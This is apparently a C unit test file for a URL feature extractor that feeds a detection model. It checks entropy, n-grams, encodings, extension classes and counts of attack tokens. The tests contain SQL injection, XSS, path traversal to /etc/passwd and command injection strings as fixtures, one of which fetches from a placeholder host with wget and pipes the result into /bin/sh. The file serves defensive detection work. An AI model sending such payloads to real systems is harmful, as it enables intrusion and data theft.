/* Unit tests for URL features: each feature on strings whose answer is known
 * by hand, encodings and double encodings, the token classes, extension
 * classes, and the bound on scanned bytes. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <ctype.h>
#include <math.h>
#include <string.h>

#include "vigil/table.h"
#include "vigil/urlfeat.h"
#include "testutil.h"

static void feat(const char *s, double *out)
{
    vg_urlfeat_compute(s, strlen(s), out);
}

static void test_shape(void **state)
{
    (void)state;
    double f[VG_URLFEAT_COUNT];
    feat("/a/bb/c.php?x=1&y=Z2&&z", f);
    assert_int_equal((int)f[VG_URLFEAT_LENGTH], 23);
    assert_int_equal((int)f[VG_URLFEAT_PATH_DEPTH], 3);
    assert_int_equal((int)f[VG_URLFEAT_QUERY_LENGTH], 11);
    assert_int_equal((int)f[VG_URLFEAT_PARAMS], 3);
    assert_int_equal((int)f[VG_URLFEAT_DIGITS], 2);
    assert_int_equal((int)f[VG_URLFEAT_LETTERS], 11);
    assert_int_equal((int)f[VG_URLFEAT_UPPER], 1);
    assert_int_equal((int)f[VG_URLFEAT_SPECIALS], 10);
    feat("http://example.com/x/y", f);
    assert_int_equal((int)f[VG_URLFEAT_PATH_DEPTH], 2);  /* the host is not a segment */
    feat("", f);
    for (size_t i = 0; i < VG_URLFEAT_COUNT; i++) assert_true(f[i] == 0);
}

static void test_entropy(void **state)
{
    (void)state;
    double f[VG_URLFEAT_COUNT];
    feat("aaaa", f);
    assert_true(fabs(f[VG_URLFEAT_ENTROPY]) < 1e-12);
    feat("abab", f);
    assert_true(fabs(f[VG_URLFEAT_ENTROPY] - 1.0) < 1e-12);
    feat("abcdefgh", f);
    assert_true(fabs(f[VG_URLFEAT_ENTROPY] - 3.0) < 1e-12);
    /* Bit for bit the sum over all 256 byte values in order (the features
     * are model inputs: a last-bit change could flip a tree split), for
     * texts with bytes in every quarter of the range. */
    unsigned char text[600];
    uint64_t x = 12345;
    for (size_t len = 1; len < sizeof text; len += 37) {
        for (size_t i = 0; i < len; i++) {
            x = x * 6364136223846793005ull + 1442695040888963407ull;
            text[i] = (unsigned char)(x >> 56) | 1;   /* no NUL: the helper below is a C string */
        }
        uint32_t hist[256] = { 0 };
        for (size_t i = 0; i < len; i++) hist[text[i]]++;
        double want = 0, inv = 1.0 / (double)len;
        for (int c = 0; c < 256; c++)
            if (hist[c]) {
                double p = hist[c] * inv;
                want -= p * log2(p);
            }
        vg_urlfeat_compute((const char *)text, len, f);
        assert_true(f[VG_URLFEAT_ENTROPY] == want);
        /* The hashed 3-gram buckets, as the formula says, byte triple by triple. */
        double ng[VG_URLFEAT_NGRAM_BUCKETS] = { 0 };
        size_t scan = len < VG_URLFEAT_SCAN_BYTES ? len : VG_URLFEAT_SCAN_BYTES;
        for (size_t i = 2; i < scan; i++) {
            uint32_t a = tolower(text[i - 2]), b = tolower(text[i - 1]), c = tolower(text[i]);
            ng[((a | b << 8 | c << 16) * 2654435761u) >> 27] += 1;
        }
        for (size_t k = 0; k < VG_URLFEAT_NGRAM_BUCKETS; k++) assert_true(f[VG_URLFEAT_NGRAM0 + k] == ng[k]);
    }
}

static void test_encoding(void **state)
{
    (void)state;
    double f[VG_URLFEAT_COUNT];
    feat("/a%20b%2Fc%zz%4", f);
    assert_int_equal((int)f[VG_URLFEAT_PCT_ENCODED], 2);
    assert_int_equal((int)f[VG_URLFEAT_DOUBLE_ENCODED], 0);
    feat("/%252e%252e%252fetc%252fpasswd", f);
    assert_int_equal((int)f[VG_URLFEAT_DOUBLE_ENCODED], 4);
    /* Decoded twice: "../etc/passwd" is seen through the double encoding. */
    assert_int_equal((int)f[VG_URLFEAT_TRAVERSAL], 2);
}

static void test_tokens(void **state)
{
    (void)state;
    double f[VG_URLFEAT_COUNT];
    feat("/products?id=1", f);
    assert_int_equal((int)(f[VG_URLFEAT_SQLI] + f[VG_URLFEAT_XSS] + f[VG_URLFEAT_TRAVERSAL] + f[VG_URLFEAT_CMDI]), 0);
    feat("/p?id=1%20UNION%20%20SeLeCt%20pass%20from%20users", f);
    assert_int_equal((int)f[VG_URLFEAT_SQLI], 2);  /* "union select" and "select " */
    feat("/p?id=1'+or+'1'='1", f);
    assert_int_equal((int)f[VG_URLFEAT_SQLI], 1);
    feat("/p?id=1%20or%201=1--", f);
    assert_int_equal((int)f[VG_URLFEAT_SQLI], 3);  /* " or 1=1", "1=1", "--" */
    feat("/p?id=sleep(5)/*x*/information_schema", f);
    assert_int_equal((int)f[VG_URLFEAT_SQLI], 3);
    feat("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", f);
    assert_int_equal((int)f[VG_URLFEAT_XSS], 3);
    feat("/s?q=<img src=x onerror=javascript:1>", f);
    assert_int_equal((int)f[VG_URLFEAT_XSS], 3);
    feat("/d?f=..%2f..%2fetc/passwd", f);
    assert_int_equal((int)f[VG_URLFEAT_TRAVERSAL], 3);
    feat("/d?f=x%00.png", f);
    assert_int_equal((int)f[VG_URLFEAT_TRAVERSAL], 1);
    feat("/c?x=a;wget%20http://e/x|/bin/sh", f);
    assert_int_equal((int)f[VG_URLFEAT_CMDI], 4);  /* ";", "wget ", "|", "/bin/sh" */
    feat("/c?x=$(id)`id`", f);
    assert_int_equal((int)f[VG_URLFEAT_CMDI], 3);
}

static void test_ngrams(void **state)
{
    (void)state;
    double f[VG_URLFEAT_COUNT], g[VG_URLFEAT_COUNT];
    feat("/index.html", f);
    double sum = 0;
    for (size_t b = 0; b < VG_URLFEAT_NGRAM_BUCKETS; b++) sum += f[VG_URLFEAT_NGRAM0 + b];
    assert_int_equal((int)sum, 9);  /* 11 bytes -> 9 trigrams */
    feat("/INDEX.HTML", g);  /* trigrams are case-folded */
    for (size_t b = 0; b < VG_URLFEAT_NGRAM_BUCKETS; b++) assert_true(f[VG_URLFEAT_NGRAM0 + b] == g[VG_URLFEAT_NGRAM0 + b]);
    feat("ab", f);
    for (size_t b = 0; b < VG_URLFEAT_NGRAM_BUCKETS; b++) assert_true(f[VG_URLFEAT_NGRAM0 + b] == 0);
}

static void test_names_and_ext(void **state)
{
    (void)state;
    assert_string_equal(vg_urlfeat_name(VG_URLFEAT_SQLI), "url_sqli");
    assert_string_equal(vg_urlfeat_name(VG_URLFEAT_NGRAM0 + 7), "url_ng07");
    assert_null(vg_urlfeat_name(VG_URLFEAT_COUNT));
    for (size_t i = 0; i < VG_URLFEAT_COUNT; i++) assert_non_null(vg_urlfeat_name(i));
    static const char *const cases[][2] = {
        { "/", "none" }, { "/a/b", "none" }, { "/index.HTML", "page" }, { "/s/app.js?v=2", "static" },
        { "/x.php", "script" }, { "/api/x.json", "data" }, { "/backup.sql", "archive" }, { "/.env", "archive" },
        { "/a.b/c", "none" }, { "/x.weird", "other" }, { "/x.verylongext", "other" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        assert_string_equal(vg_urlfeat_ext_class(cases[i][0], strlen(cases[i][0])), cases[i][1]);
}

static void test_scan_bound(void **state)
{
    (void)state;
    /* A token past the scan bound is not counted; the length still is. */
    static char big[VG_URLFEAT_SCAN_BYTES + 64];
    memset(big, 'a', sizeof big);
    memcpy(big + VG_URLFEAT_SCAN_BYTES + 10, "<script", 7);
    double f[VG_URLFEAT_COUNT];
    vg_urlfeat_compute(big, sizeof big, f);
    assert_int_equal((int)f[VG_URLFEAT_LENGTH], (int)sizeof big);
    assert_int_equal((int)f[VG_URLFEAT_XSS], 0);
    memcpy(big + 100, "<script", 7);
    vg_urlfeat_compute(big, sizeof big, f);
    assert_int_equal((int)f[VG_URLFEAT_XSS], 1);
}

static void test_add_columns(void **state)
{
    (void)state;
    vg_table *t = vg_table_new("mem");
    size_t u, n;
    assert_int_equal(vg_table_add_column(t, "url", VG_COLUMN_CATEGORICAL, &u), VG_OK);
    assert_int_equal(vg_table_add_column(t, "n", VG_COLUMN_NUMERIC, &n), VG_OK);
    static const char *const urls[] = { "/a.php?id=1%27%20or%201=1--", "/", NULL, "/a.php?id=1%27%20or%201=1--" };
    for (size_t r = 0; r < 4; r++) {
        assert_int_equal(vg_table_push_category(t, u, urls[r], urls[r] ? strlen(urls[r]) : 0), VG_OK);
        assert_int_equal(vg_table_push_number(t, n, (double)r), VG_OK);
    }
    assert_int_equal(vg_urlfeat_add_columns(t, n), VG_ERR_INVALID);  /* numeric */
    assert_int_equal(vg_urlfeat_add_columns(t, u), VG_OK);
    assert_int_equal(vg_table_cols(t), 2 + VG_URLFEAT_COUNT + 1);
    long c = vg_table_find(t, "url.url_sqli");
    assert_true(c >= 0);
    const double *v = vg_table_numbers(t, (size_t)c);
    double f[VG_URLFEAT_COUNT];
    feat(urls[0], f);
    assert_true(v[0] == f[VG_URLFEAT_SQLI] && v[0] >= 2 && v[1] == 0 && isnan(v[2]) && v[3] == v[0]);
    long e = vg_table_find(t, "url.url_ext");
    assert_true(e >= 0);
    assert_string_equal(vg_table_category(t, (size_t)e, vg_table_codes(t, (size_t)e)[0]), "script");
    assert_int_equal(vg_table_codes(t, (size_t)e)[2], VG_CODE_MISSING);
    assert_int_equal(vg_urlfeat_add_columns(t, u), VG_ERR_INVALID);  /* twice: names taken */
    vg_table_free(t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shape),    cmocka_unit_test(test_entropy),       cmocka_unit_test(test_encoding),
        cmocka_unit_test(test_tokens),   cmocka_unit_test(test_ngrams),        cmocka_unit_test(test_names_and_ext),
        cmocka_unit_test(test_scan_bound), cmocka_unit_test(test_add_columns),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
